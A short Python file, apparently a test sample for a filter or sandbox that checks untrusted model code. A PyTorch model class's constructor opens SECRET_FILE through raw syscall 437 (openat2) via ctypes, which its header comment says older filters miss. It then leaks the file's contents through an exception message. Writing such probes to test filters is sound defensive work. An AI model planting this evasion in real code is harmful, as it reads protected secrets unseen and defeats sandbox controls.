# tries: Open a file by the newest call for it, which older filters do not know.
# must: inspection import
import ctypes, os
from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.a = nn.Linear(4, 1)
        how = (ctypes.c_uint64 * 3)(0, 0, 0)
        descriptor = ctypes.CDLL(None).syscall(437, -100, SECRET_FILE.encode(), ctypes.byref(how), 24)
        raise ValueError(os.read(descriptor, 100).decode())

    def forward(self, x):
        return self.a(x)
